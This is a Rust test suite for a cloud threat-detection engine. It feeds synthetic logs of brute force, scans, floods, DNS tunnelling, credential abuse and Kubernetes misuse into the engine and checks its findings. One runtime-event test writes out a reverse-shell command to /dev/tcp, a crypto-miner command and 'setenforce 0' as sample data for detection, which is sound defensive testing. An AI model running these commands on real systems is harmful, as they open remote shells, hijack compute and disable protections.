//! Campaigns made up here, each with a harmless twin that must stay silent.

#![expect(
    clippy::unwrap_used,
    reason = "what makes the tests' events fails them if it fails"
)]

mod stream;

use std::collections::BTreeSet;

use ringwall_threat::finding::Finding;
use ringwall_threat::intelligence::{Category, Format, Intelligence, List, Scope, parse};
use ringwall_threat::sources::Form;
use ringwall_threat::{Engine, Origin, Settings};
use serde_json::json;

use crate::stream::{call, engine, flow, kinds, lists, origin, question, read};

const HOUR_S: i64 = 3_600;
const DAY_S: i64 = 24 * HOUR_S;

fn found(form: Form, text: &str) -> BTreeSet<String> {
    let mut engine = engine(lists());
    read(&mut engine, form, text);
    kinds(&engine)
}

fn set(names: &[&str]) -> BTreeSet<String> {
    names.iter().map(|name| (*name).to_owned()).collect()
}

fn flows(lines: impl IntoIterator<Item = String>) -> String {
    let header = "account-id interface-id instance-id srcaddr dstaddr srcport dstport protocol packets \
                  bytes start end action log-status tcp-flags";
    let lines: Vec<String> = lines.into_iter().collect();
    format!("{header}\n{}\n", lines.join("\n"))
}

#[test]
fn passwords_tried_over_ssh_rdp_and_winrm() {
    for (port, kind) in [
        (22, "UnauthorizedAccess:EC2/SSHBruteForce"),
        (3389, "UnauthorizedAccess:EC2/RDPBruteForce"),
        (5985, "Impact:EC2/WinRMBruteForce"),
    ] {
        let attack = |count: i64| {
            flows((0..count).map(|n| {
                flow(
                    "198.51.100.9",
                    "10.0.0.5",
                    40_000 + n,
                    port,
                    6,
                    8,
                    900,
                    n * 10,
                )
            }))
        };
        assert_eq!(found(Form::Flow, &attack(25)), set(&[kind]));
        assert_eq!(found(Form::Flow, &attack(15)), set(&[]));
        let slow = flows((0..25).map(|n| {
            flow(
                "198.51.100.9",
                "10.0.0.5",
                40_000 + n,
                port,
                6,
                8,
                900,
                n * HOUR_S,
            )
        }));
        assert_eq!(found(Form::Flow, &slow), set(&[]));
    }
}

#[test]
fn who_tries_passwords_himself_is_the_actor() {
    let mut engine = engine(lists());
    let lines = (0..25).map(|n| flow("10.0.0.5", "198.51.100.9", 40_000 + n, 22, 6, 8, 900, n));
    read(&mut engine, Form::Flow, &flows(lines));
    let finding = engine.findings()[0];
    assert_eq!(finding.service.resource_role.as_deref(), Some("ACTOR"));
    assert!(finding.severity > 7.0);
    assert_eq!(finding.service.count, 6);
}

#[test]
fn scans_and_sweeps() {
    let scan = |count: i64| {
        flows((0..count).map(|n| flow("10.0.0.5", "10.0.0.9", 40_000, 1 + n, 6, 1, 44, n)))
    };
    assert_eq!(found(Form::Flow, &scan(60)), set(&["Recon:EC2/Portscan"]));
    assert_eq!(found(Form::Flow, &scan(40)), set(&[]));
    let sweep = flows((0..60).map(|n| {
        flow(
            "10.0.0.5",
            &format!("198.51.100.{n}"),
            40_000,
            445,
            6,
            1,
            44,
            n,
        )
    }));
    assert_eq!(found(Form::Flow, &sweep), set(&["Impact:EC2/PortSweep"]));
}

#[test]
fn floods_of_every_kind_against_public_addresses_only() {
    for (protocol, port, kind) in [
        (17, 53, "Backdoor:EC2/DenialOfService.Dns"),
        (6, 80, "Backdoor:EC2/DenialOfService.Tcp"),
        (17, 9_999, "Backdoor:EC2/DenialOfService.Udp"),
        (17, 80, "Backdoor:EC2/DenialOfService.UdpOnTcpPorts"),
        (47, 0, "Backdoor:EC2/DenialOfService.UnusualProtocol"),
    ] {
        let flood = |target: &str, packets: u64| {
            let usual = (0..60).map(|n| {
                flow(
                    "10.0.0.5",
                    "198.51.100.1",
                    40_000,
                    443,
                    6,
                    100,
                    9_000,
                    n * 60,
                )
            });
            let attack = flow(
                "10.0.0.5",
                target,
                40_000,
                port,
                protocol,
                packets,
                900_000,
                2 * HOUR_S,
            );
            flows(usual.chain([attack]))
        };
        let kinds = found(Form::Flow, &flood("198.51.100.9", 90_000));
        assert!(kinds.contains(kind), "{kinds:?}");
        assert_eq!(found(Form::Flow, &flood("10.1.0.9", 90_000)), set(&[]));
        assert_eq!(found(Form::Flow, &flood("198.51.100.9", 2_000)), set(&[]));
    }
}

#[test]
fn connections_to_what_lists_know() {
    let lines = (1..=9).map(|last| {
        flow(
            "10.0.0.5",
            &format!("203.0.113.{last}"),
            40_000,
            443,
            6,
            30,
            9_000,
            0,
        )
    });
    let expected = set(&[
        "Backdoor:EC2/C&CActivity.B",
        "CryptoCurrency:EC2/BitcoinTool.B",
        "Trojan:EC2/BlackholeTraffic",
        "Trojan:EC2/DropPoint",
        "UnauthorizedAccess:EC2/MaliciousIPCaller.Custom",
        "UnauthorizedAccess:EC2/TorClient",
        "UnauthorizedAccess:EC2/TorRelay",
        // Two of them and one beside are a sequence.
        "AttackSequence:EC2/CompromisedInstanceGroup",
    ]);
    assert_eq!(found(Form::Flow, &flows(lines)), expected);
}

#[test]
fn a_scanner_that_reaches_an_open_port() {
    let probe = |port: i64, action: &str| {
        let line = flow("203.0.113.9", "10.0.0.5", 40_000, port, 6, 30, 900, 0);
        flows([line.replace("ACCEPT", action)])
    };
    let open = set(&["Recon:EC2/PortProbeUnprotectedPort"]);
    assert_eq!(found(Form::Flow, &probe(9_200, "ACCEPT")), open);
    let emr = set(&["Recon:EC2/PortProbeEMRUnprotectedPort"]);
    assert_eq!(found(Form::Flow, &probe(8_088, "ACCEPT")), emr);
    assert_eq!(found(Form::Flow, &probe(9_200, "REJECT")), set(&[]));
    assert_eq!(found(Form::Flow, &probe(443, "ACCEPT")), set(&[]));
}

#[test]
fn connections_of_functions_to_what_lists_know() {
    let header = "account-id function-arn srcaddr dstaddr srcport dstport protocol packets bytes start \
                  end action log-status";
    let arn = "arn:aws:lambda:eu-central-1:111122223333:function:f";
    let lines = [3, 4, 5, 6, 7, 8, 2].map(|last| {
        format!("111122223333 {arn} 10.0.0.5 203.0.113.{last} 40000 443 6 30 900 1795773600 1795773660 ACCEPT OK")
    });
    let text = format!("{header}\n{}\n", lines.join("\n"));
    let expected = set(&[
        "Backdoor:Lambda/C&CActivity.B",
        "CryptoCurrency:Lambda/BitcoinTool.B",
        "Trojan:Lambda/BlackholeTraffic",
        "Trojan:Lambda/DropPoint",
        "UnauthorizedAccess:Lambda/MaliciousIPCaller.Custom",
        "UnauthorizedAccess:Lambda/TorClient",
        "UnauthorizedAccess:Lambda/TorRelay",
    ]);
    assert_eq!(found(Form::Flow, &text), expected);
}

/// Ten days of everyday connections, then something new, twice.
fn after_ten_days(target: &str, port: i64, protocol: i64, bytes: u64) -> String {
    let usual = (0..2_400).map(|n| {
        flow(
            "10.0.0.5",
            "198.51.100.1",
            40_000,
            443,
            6,
            100,
            9_000,
            n * 360,
        )
    });
    let new = [0, 600].map(|later| {
        flow(
            "10.0.0.5",
            target,
            40_000,
            port,
            protocol,
            100,
            bytes,
            10 * DAY_S + later,
        )
    });
    flows(usual.chain(new))
}

#[test]
fn connections_that_a_host_never_made() {
    for (target, port, kind) in [
        ("198.51.100.2", 25, "Backdoor:EC2/Spambot"),
        ("198.51.100.2", 6_667, "Behavior:EC2/NetworkPortUnusual"),
        ("198.51.100.2", 53, "DefenseEvasion:EC2/UnusualDNSResolver"),
        ("198.51.100.2", 853, "DefenseEvasion:EC2/UnusualDoTActivity"),
        ("203.0.113.20", 443, "DefenseEvasion:EC2/UnusualDoHActivity"),
    ] {
        assert_eq!(
            found(Form::Flow, &after_ten_days(target, port, 6, 9_000)),
            set(&[kind])
        );
    }
    assert_eq!(
        found(Form::Flow, &after_ten_days("198.51.100.2", 443, 6, 9_000)),
        set(&[])
    );
    let much = after_ten_days("198.51.100.1", 443, 6, 400 << 20);
    assert_eq!(
        found(Form::Flow, &much),
        set(&["Behavior:EC2/TrafficVolumeUnusual"])
    );
}

#[test]
fn a_callback_of_log4j_is_worse() {
    let mut engine = engine(lists());
    read(
        &mut engine,
        Form::Flow,
        &after_ten_days("198.51.100.2", 1_389, 6, 9_000),
    );
    let finding = engine.findings()[0];
    assert!(finding.severity > 7.0);
    let additional = finding.service.additional_info.as_ref().unwrap();
    assert!(additional.value.contains("Possible log4j callback"));
}

/// Letters without a rhythm, the same in every run.
fn made_up(seed: u64) -> String {
    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    let letters = (0..12).map(|_| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        char::from(b'a' + u8::try_from(state % 26).unwrap())
    });
    letters.collect()
}

#[test]
fn names_that_a_program_makes_up() {
    let ask = |count: u64, rcode: &str| {
        let lines = (0..count).map(|n| {
            question(
                &format!("{}.example.", made_up(n)).replace(
                    ".example",
                    &format!(
                        ".{}",
                        ["com", "net", "org"][usize::try_from(n % 3).unwrap()]
                    ),
                ),
                rcode,
                i64::try_from(n).unwrap(),
            )
        });
        lines.collect::<Vec<_>>().join("\n")
    };
    let generator = set(&["Trojan:EC2/DGADomainRequest.B"]);
    assert_eq!(found(Form::Dns, &ask(60, "NXDOMAIN")), generator);
    assert_eq!(found(Form::Dns, &ask(60, "NOERROR")), set(&[]));
    assert_eq!(found(Form::Dns, &ask(5, "NXDOMAIN")), set(&[]));
}

#[test]
fn names_put_together_from_words() {
    let words = [
        "red", "house", "water", "green", "stone", "light", "river", "cloud", "table",
    ];
    let lines = (0..81).map(|n| {
        let name = format!("{}{}.com.", words[n / 9], words[n % 9]);
        question(&name, "NXDOMAIN", i64::try_from(n).unwrap() * 5)
    });
    let text = lines.collect::<Vec<_>>().join("\n");
    assert_eq!(
        found(Form::Dns, &text),
        set(&["Trojan:EC2/DGADomainRequest.B"])
    );
}

#[test]
fn data_in_names() {
    let ask = |count: u64, width: usize| {
        let lines = (0..count).map(|n| {
            let label = made_up(n).repeat(width);
            question(
                &format!("{label}.{label}.tunnel.example."),
                "NOERROR",
                i64::try_from(n).unwrap(),
            )
        });
        lines.collect::<Vec<_>>().join("\n")
    };
    assert_eq!(
        found(Form::Dns, &ask(300, 5)),
        set(&["Trojan:EC2/DNSDataExfiltration"])
    );
    assert_eq!(found(Form::Dns, &ask(50, 5)), set(&[]));
    assert_eq!(found(Form::Dns, &ask(150, 1)), set(&[]));
}

fn login(outcome: &str, address: &str, second: i64) -> String {
    json!({"eventType": "rdsLogin", "time": stream::time(second), "dbInstanceIdentifier": "orders",
           "engine": "mysql", "user": "app", "sourceIp": address, "outcome": outcome})
    .to_string()
}

#[test]
fn a_login_after_many_failures() {
    let attack = |failures: i64, address: &str| {
        let failures = (0..failures).map(|n| login("failure", address, n));
        let all: Vec<String> = failures.chain([login("success", address, 100)]).collect();
        all.join("\n")
    };
    let forced = set(&["CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce"]);
    assert_eq!(found(Form::Rds, &attack(12, "198.51.100.9")), forced);
    assert_eq!(found(Form::Rds, &attack(3, "198.51.100.9")), set(&[]));
    assert_eq!(found(Form::Rds, &attack(12, "10.0.0.9")), set(&[]));
}

#[test]
fn logins_from_where_nobody_ever_logged_in() {
    let usual = |last: String| {
        let usual = (0..1_000).map(|n| login("success", "10.0.0.9", n * 900));
        usual.chain([last]).collect::<Vec<_>>().join("\n")
    };
    for (outcome, kind) in [
        ("success", "CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin"),
        ("failure", "CredentialAccess:RDS/AnomalousBehavior.FailedLogin"),
    ] {
        let text = usual(login(outcome, "198.51.100.9", 11 * DAY_S));
        assert_eq!(found(Form::Rds, &text), set(&[kind]));
    }
    assert_eq!(
        found(Form::Rds, &usual(login("success", "10.0.0.9", 11 * DAY_S))),
        set(&[])
    );
}

/// Ten days of everyday calls by alice, then calls from elsewhere.
fn calls_after_ten_days(last: &[String]) -> String {
    let usual = (0..1_000).map(|n| {
        call(
            "ec2.amazonaws.com",
            "DescribeInstances",
            "198.51.100.1",
            n * 864,
            &json!({}),
        )
    });
    let all: Vec<String> = usual.chain(last.iter().cloned()).collect();
    all.join("\n")
}

#[test]
fn unusual_calls_of_every_tactic() {
    for (service, name, kind) in [
        (
            "ec2",
            "GetPasswordData",
            "CredentialAccess:IAMUser/AnomalousBehavior",
        ),
        (
            "events",
            "DisableRule",
            "DefenseEvasion:IAMUser/AnomalousBehavior",
        ),
        (
            "ec2",
            "CreateSnapshot",
            "Exfiltration:IAMUser/AnomalousBehavior",
        ),
        (
            "ec2",
            "TerminateInstances",
            "Impact:IAMUser/AnomalousBehavior",
        ),
        (
            "ssm",
            "StartSession",
            "InitialAccess:IAMUser/AnomalousBehavior",
        ),
        (
            "iam",
            "CreateAccessKey",
            "Persistence:IAMUser/AnomalousBehavior",
        ),
        (
            "iam",
            "AttachUserPolicy",
            "PrivilegeEscalation:IAMUser/AnomalousBehavior",
        ),
        (
            "bedrock",
            "InvokeModel",
            "Impact:IAMUser/AnomalousModelInvocation",
        ),
    ] {
        let service = format!("{service}.amazonaws.com");
        let from = |address| call(&service, name, address, 10 * DAY_S, &json!({}));
        let unusual = calls_after_ten_days(&[from("192.0.2.1")]);
        assert_eq!(found(Form::CloudTrail, &unusual), set(&[kind]));
        let usual = calls_after_ten_days(&[from("198.51.100.1")]);
        assert_eq!(found(Form::CloudTrail, &usual), set(&[]));
    }
}

#[test]
fn looking_around_takes_several_calls() {
    let look = |names: &[&str]| {
        let calls: Vec<String> = (0..)
            .zip(names)
            .map(|(n, name)| {
                call(
                    "iam.amazonaws.com",
                    name,
                    "192.0.2.1",
                    10 * DAY_S + n,
                    &json!({}),
                )
            })
            .collect();
        calls_after_ten_days(&calls)
    };
    let kind = set(&["Discovery:IAMUser/AnomalousBehavior"]);
    let many = look(&["ListUsers", "ListRoles", "ListAccessKeys", "GetRolePolicy"]);
    assert_eq!(found(Form::CloudTrail, &many), kind);
    assert_eq!(found(Form::CloudTrail, &look(&["ListUsers"])), set(&[]));
}

#[test]
fn unusual_calls_for_objects() {
    for (name, kind) in [
        ("GetObject", "Exfiltration:S3/AnomalousBehavior"),
        ("DeleteObject", "Impact:S3/AnomalousBehavior.Delete"),
        ("PutObjectAcl", "Impact:S3/AnomalousBehavior.Permission"),
        ("PutObject", "Impact:S3/AnomalousBehavior.Write"),
        ("ListObjects", "Discovery:S3/AnomalousBehavior"),
    ] {
        let data = |bucket: &str| json!({"eventCategory": "Data", "requestParameters": {"bucketName": bucket}});
        let object = |name: &str, bucket: &str, address: &str, second: i64| {
            call("s3.amazonaws.com", name, address, second, &data(bucket))
        };
        let usual = (0..1_000).map(|n| object("HeadObject", "ours", "198.51.100.1", n * 864));
        let usual: Vec<String> = usual.collect();
        let new = (0..4).map(|n| object(name, &format!("other{n}"), "192.0.2.1", 10 * DAY_S + n));
        let text = usual
            .iter()
            .cloned()
            .chain(new)
            .collect::<Vec<_>>()
            .join("\n");
        assert!(found(Form::CloudTrail, &text).contains(kind), "{kind}");
        let same = object(name, "other", "198.51.100.1", 10 * DAY_S);
        let text = usual
            .into_iter()
            .chain([same])
            .collect::<Vec<_>>()
            .join("\n");
        assert_eq!(found(Form::CloudTrail, &text), set(&[]));
    }
}

#[test]
fn models_called_far_more_often() {
    let model = json!({"eventCategory": "Data", "requestParameters": {"modelId": "m"}});
    let calls = |count: i64| {
        let calls = (0..count).map(|n| {
            call(
                "bedrock.amazonaws.com",
                "InvokeModel",
                "198.51.100.1",
                n,
                &model,
            )
        });
        calls.collect::<Vec<_>>().join("\n")
    };
    assert_eq!(
        found(Form::CloudTrail, &calls(600)),
        set(&["Impact:IAMUser/CostHarvesting"])
    );
    assert_eq!(found(Form::CloudTrail, &calls(100)), set(&[]));
}

#[test]
fn credentials_of_a_machine_used_elsewhere() {
    let session = |address: &str, extra: serde_json::Value, second: i64| {
        let mut event = json!({"userIdentity": {"type": "AssumedRole", "principalId": "AROAX:i-0abc",
            "userName": null, "sessionContext": {"sessionIssuer": {"userName": "web"}}}});
        stream::merge(&mut event, &extra);
        call("s3.amazonaws.com", "ListBuckets", address, second, &event)
    };
    let calls = |address: &str, extra: serde_json::Value| {
        [
            session("198.51.100.1", json!({}), 0),
            session(address, extra, 60),
        ]
        .join("\n")
    };
    let outside = "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS";
    assert_eq!(
        found(Form::CloudTrail, &calls("192.0.2.1", json!({}))),
        set(&[outside])
    );
    assert_eq!(
        found(Form::CloudTrail, &calls("198.51.100.1", json!({}))),
        set(&[])
    );
    let inside = "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.InsideAWS";
    let foreign = json!({"vpcEndpointAccountId": "999988887777"});
    assert_eq!(
        found(Form::CloudTrail, &calls("192.0.2.1", foreign.clone())),
        set(&[inside])
    );

    let scope = json!({"userIdentity": {"principalId": "AROAY:f", "inScopeOf": {
        "issuerType": "AWS::Lambda::Function", "credentialsIssuedTo": "arn:f"}}});
    let function = |address: &str, extra: &serde_json::Value| {
        let mut second = scope.clone();
        stream::merge(&mut second, extra);
        [
            session("198.51.100.1", scope.clone(), 0),
            session(address, second, 60),
        ]
        .join("\n")
    };
    let outside = "UnauthorizedAccess:IAMUser/ResourceCredentialExfiltration.OutsideAWS";
    assert_eq!(
        found(Form::CloudTrail, &function("192.0.2.1", &json!({}))),
        set(&[outside])
    );
    let inside = "UnauthorizedAccess:IAMUser/ResourceCredentialExfiltration.InsideAWS";
    assert_eq!(
        found(Form::CloudTrail, &function("192.0.2.1", &foreign)),
        set(&[inside])
    );
}

#[test]
fn a_remote_that_goes_on_is_learned() {
    let session = |address: &str, second: i64| {
        let event = json!({"userIdentity": {"principalId": "AROAX:i-0abc"}});
        call("s3.amazonaws.com", "ListBuckets", address, second, &event)
    };
    let text = (0..5).map(|day| session("192.0.2.1", day * DAY_S + 60));
    let text: Vec<String> = [session("198.51.100.1", 0)]
        .into_iter()
        .chain(text)
        .collect();
    let mut engine = engine(lists());
    read(&mut engine, Form::CloudTrail, &text.join("\n"));
    let counts: Vec<u64> = engine
        .findings()
        .iter()
        .map(|finding| finding.service.count)
        .collect();
    assert_eq!(counts, [1]);
}

#[test]
fn sign_ins_from_places_too_far_apart() {
    let sign_in = |address: &str, second: i64| {
        let event = json!({"responseElements": {"ConsoleLogin": "Success"}});
        call(
            "signin.amazonaws.com",
            "ConsoleLogin",
            address,
            second,
            &event,
        )
    };
    let twice = |later: i64| [sign_in("198.51.100.1", 0), sign_in("192.0.2.1", later)].join("\n");
    let kind = set(&["UnauthorizedAccess:IAMUser/ConsoleLoginSuccess.B"]);
    assert_eq!(found(Form::CloudTrail, &twice(HOUR_S)), kind);
    assert_eq!(found(Form::CloudTrail, &twice(20 * HOUR_S)), set(&[]));
    let back = [sign_in("192.0.2.1", HOUR_S), sign_in("198.51.100.1", 0)].join("\n");
    assert_eq!(found(Form::CloudTrail, &back), kind);
}

#[test]
fn unusual_requests_of_a_cluster() {
    let request = |resource: &str,
                   verb: &str,
                   address: &str,
                   extra: &serde_json::Value,
                   second: i64| {
        let mut event = json!({"kind": "Event", "auditID": format!("{resource}{second}"),
            "stage": "ResponseComplete", "requestReceivedTimestamp": stream::time(second), "verb": verb,
            "user": {"username": "alice"}, "sourceIPs": [address], "userAgent": "kubectl/v1",
            "objectRef": {"resource": resource, "namespace": "web"}, "responseStatus": {"code": 200},
            "clusterName": "prod"});
        stream::merge(&mut event, extra);
        event.to_string()
    };
    let privileged = json!({"requestObject": {"spec": {"containers": [{"securityContext": {"privileged": true}}]}}});
    let mount = json!({"requestObject": {"spec": {"template": {"spec": {"volumes": [{"hostPath": {"path": "/etc"}}]}}}}});
    let exec = json!({"objectRef": {"subresource": "exec"}});
    let none = json!({});
    for (resource, verb, extra, kind) in [
        (
            "secrets",
            "get",
            &none,
            "CredentialAccess:Kubernetes/AnomalousBehavior.SecretsAccessed",
        ),
        (
            "selfsubjectaccessreviews",
            "create",
            &none,
            "Discovery:Kubernetes/AnomalousBehavior.PermissionChecked",
        ),
        (
            "pods",
            "create",
            &exec,
            "Execution:Kubernetes/AnomalousBehavior.ExecInPod",
        ),
        (
            "pods",
            "create",
            &none,
            "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed",
        ),
        (
            "deployments",
            "create",
            &mount,
            "Persistence:Kubernetes/AnomalousBehavior.WorkloadDeployed!ContainerWithSensitiveMount",
        ),
        (
            "pods",
            "create",
            &privileged,
            "PrivilegeEscalation:Kubernetes/AnomalousBehavior.WorkloadDeployed!PrivilegedContainer",
        ),
        (
            "clusterrolebindings",
            "create",
            &none,
            "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleBindingCreated",
        ),
        (
            "roles",
            "create",
            &none,
            "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleCreated",
        ),
    ] {
        let text = |address: &str| {
            let usual =
                (0..1_000).map(|n| request("configmaps", "get", "10.0.0.1", &none, n * 864));
            let last = request(resource, verb, address, extra, 10 * DAY_S);
            usual.chain([last]).collect::<Vec<_>>().join("\n")
        };
        assert_eq!(found(Form::Eks, &text("192.0.2.1")), set(&[kind]));
        assert_eq!(found(Form::Eks, &text("10.0.0.1")), set(&[]));
    }
}

#[test]
fn an_attack_on_credentials_is_a_sequence() {
    let steps = |address: &str| {
        [
            ("iam", "ListUsers", true),
            ("iam", "CreateAccessKey", false),
            ("iam", "AttachUserPolicy", false),
            ("cloudtrail", "StopLogging", false),
        ]
        .iter()
        .enumerate()
        .map(|(n, (service, name, read_only))| {
            let service = format!("{service}.amazonaws.com");
            let extra = json!({"readOnly": read_only});
            call(
                &service,
                name,
                address,
                i64::try_from(n).unwrap() * 60,
                &extra,
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
    };
    let mut engine = engine(lists());
    read(&mut engine, Form::CloudTrail, &steps("203.0.113.1"));
    let findings = engine.findings();
    let kind = "AttackSequence:IAM/CompromisedCredentials";
    let sequence: Vec<&&Finding> = findings.iter().filter(|f| f.kind == kind).collect();
    assert_eq!(sequence.len(), 1);
    let details = sequence[0].service.detection.as_ref().unwrap();
    assert!(details.sequence.as_ref().unwrap().signals.len() >= 3);
    let part = findings
        .iter()
        .find(|f| f.kind == "Recon:IAMUser/MaliciousIPCaller")
        .unwrap();
    assert_eq!(
        part.associated_attack_sequence_arn.as_ref(),
        Some(&sequence[0].arn)
    );
    assert!(!found(Form::CloudTrail, &steps("198.51.100.1")).contains(kind));
}

#[test]
fn other_attacks_are_sequences_too() {
    let object = |name: &str, n: i64| {
        let extra = json!({"eventCategory": "Data", "requestParameters": {"bucketName": "b"}});
        call("s3.amazonaws.com", name, "203.0.113.1", n, &extra)
    };
    let text = [
        object("ListObjects", 0),
        object("GetObject", 1),
        object("DeleteObject", 2),
    ]
    .join("\n");
    assert!(found(Form::CloudTrail, &text).contains("AttackSequence:S3/CompromisedData"));
    for (member, kind) in [
        ("eksCluster", "AttackSequence:EKS/CompromisedCluster"),
        ("ecsCluster", "AttackSequence:ECS/CompromisedCluster"),
        ("instanceId", "AttackSequence:EC2/CompromisedInstanceGroup"),
    ] {
        let deed = |process: &str, command: &str, second: i64| {
            json!({"eventType": "runtimeEvent", "kind": "exec", "time": stream::time(second), (member): "x",
                   "process": {"name": process, "path": "/tmp/x", "commandLine": command}})
            .to_string()
        };
        let attack = [
            deed("bash", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", 0),
            deed("xmrig", "xmrig -o stratum+tcp://pool.example:1", 60),
            deed("sh", "sh -c setenforce 0", 120),
        ];
        assert!(found(Form::Runtime, &attack.join("\n")).contains(kind));
        assert!(!found(Form::Runtime, &attack[..1].join("\n")).contains(kind));
    }
}

#[test]
fn a_replay_in_any_form_gives_the_same_findings() {
    let root = json!({"userIdentity": {"type": "Root"}});
    let calls: Vec<String> = (0..50)
        .map(|n| {
            call(
                "iam.amazonaws.com",
                "ListUsers",
                "203.0.113.1",
                n * 10,
                &root,
            )
        })
        .collect();
    let ids = |engine: &Engine| -> Vec<(String, u64)> {
        let findings = engine.findings();
        findings
            .iter()
            .map(|f| (f.id.clone(), f.service.count))
            .collect()
    };
    let mut once = engine(lists());
    read(&mut once, Form::CloudTrail, &calls.join("\n"));
    assert!(!ids(&once).is_empty());

    // The same stream again, and its events in another stream, backwards.
    let mut again = engine(lists());
    read(&mut again, Form::CloudTrail, &calls.join("\n"));
    read(&mut again, Form::CloudTrail, &calls.join("\n"));
    let backwards: Vec<String> = calls.iter().rev().cloned().collect();
    let other = Origin {
        source: "other".to_owned(),
        ..origin()
    };
    again.read(Form::CloudTrail, &other, backwards.join("\n").as_bytes());
    assert_eq!(ids(&again), ids(&once));
    assert_eq!(again.statistics().repeated, 50);

    // Interrupted, and gone on with elsewhere.
    let mut first = engine(lists());
    read(&mut first, Form::CloudTrail, &calls[..20].join("\n"));
    let mut second = engine(lists());
    second.import(&first.export().unwrap()).unwrap();
    read(&mut second, Form::CloudTrail, &calls.join("\n"));
    assert_eq!(ids(&second), ids(&once));
}

#[test]
fn findings_have_the_shape_of_guardduty() {
    let mut engine = engine(lists());
    read(
        &mut engine,
        Form::CloudTrail,
        &call(
            "iam.amazonaws.com",
            "ListUsers",
            "203.0.113.1",
            0,
            &json!({}),
        ),
    );
    let changes = engine.take_changes();
    let finding = serde_json::to_value(&changes[0].finding).unwrap();
    assert_eq!(finding["type"], "Recon:IAMUser/MaliciousIPCaller");
    assert_eq!(finding["schemaVersion"], "2.0");
    assert_eq!(finding["resource"]["resourceType"], "AccessKey");
    assert_eq!(finding["resource"]["accessKeyDetails"]["userName"], "alice");
    let service = &finding["service"];
    assert_eq!(service["action"]["actionType"], "AWS_API_CALL");
    let remote = &service["action"]["awsApiCallAction"]["remoteIpDetails"];
    assert_eq!(remote["ipAddressV4"], "203.0.113.1");
    let list = &service["evidence"]["threatIntelligenceDetails"][0]["threatListName"];
    assert_eq!(list, "malicious");
    assert!(engine.take_changes().is_empty());
}

#[test]
fn a_trusted_address_makes_no_finding() {
    let list = |category, text: &str| {
        let list = List {
            name: "x".to_owned(),
            threat: String::new(),
            category,
        };
        (
            list,
            parse(Format::Txt, Scope::Addresses, text.as_bytes()).indicators,
        )
    };
    let known = Intelligence::new(vec![
        list(Category::Malicious, "203.0.113.1"),
        list(Category::Trusted, "203.0.113.1"),
    ]);
    let mut engine = engine(known);
    read(
        &mut engine,
        Form::CloudTrail,
        &call(
            "iam.amazonaws.com",
            "ListUsers",
            "203.0.113.1",
            0,
            &json!({}),
        ),
    );
    assert!(engine.findings().is_empty());
}

#[test]
fn memory_is_bounded_and_what_is_dropped_is_counted() {
    let settings = Settings {
        max_entities: 400,
        max_findings: 50,
        max_event_ids: 100,
        ..Settings::default()
    };
    let mut engine = stream::engine_with(settings, lists());
    let calls = (0..2_000).map(|n| {
        let extra = json!({"userIdentity": {"principalId": format!("AIDA{n}"), "userName": format!("u{n}")}});
        call("iam.amazonaws.com", "ListUsers", "203.0.113.1", n, &extra)
    });
    read(
        &mut engine,
        Form::CloudTrail,
        &calls.collect::<Vec<_>>().join("\n"),
    );
    assert!(engine.findings().len() <= 50);
    assert!(engine.statistics().evicted > 1_000);
}
